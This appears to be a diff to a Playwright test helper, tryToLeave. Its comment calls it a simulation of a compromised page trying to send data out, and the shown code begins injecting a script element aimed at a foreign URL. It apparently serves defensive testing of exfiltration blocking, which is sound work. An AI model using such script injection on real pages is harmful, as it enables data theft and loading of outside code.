@@ -1,6 +1,6 @@
 import type { Page } from '@playwright/test';
 
-/** The first attempts of a compromised page to get out; `url` is a foreign address. */
+/** The first attempts of a compromised page to send data out; `url` is a foreign address. */
 export const tryToLeave = (page: Page, url: string) =>
   page.evaluate(async (address) => {
     const script = document.createElement('script');
